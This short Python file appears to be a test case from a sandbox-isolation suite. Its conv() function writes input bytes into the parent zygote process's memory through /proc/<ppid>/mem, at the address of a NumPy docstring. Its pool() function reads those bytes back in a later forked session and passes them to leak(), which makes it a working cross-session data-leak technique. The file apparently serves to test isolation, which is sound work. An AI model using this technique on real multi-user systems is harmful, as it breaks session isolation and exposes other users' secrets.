"""
en: Write into the zygote's memory, which the next session is a copy of
zh: 写入母进程内存，下个会话是它的副本
group: shared
stake: secret
scenarios: [conv, pool]
needs: [landlock, uid]
"""

from told import *

# A text that lies in the zygote and is used by nobody; forks share the layout, so our address is the zygote's.
PLACE = np.einsum.__doc__


def address():
    return id(PLACE) + sys.getsizeof(PLACE) - len(PLACE) - 1


def conv(x, out):
    memory = os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR)
    os.pwrite(memory, x.tobytes()[:16], address())
    return out


def pool(x, out):
    return leak(ctypes.string_at(address(), 16), out)
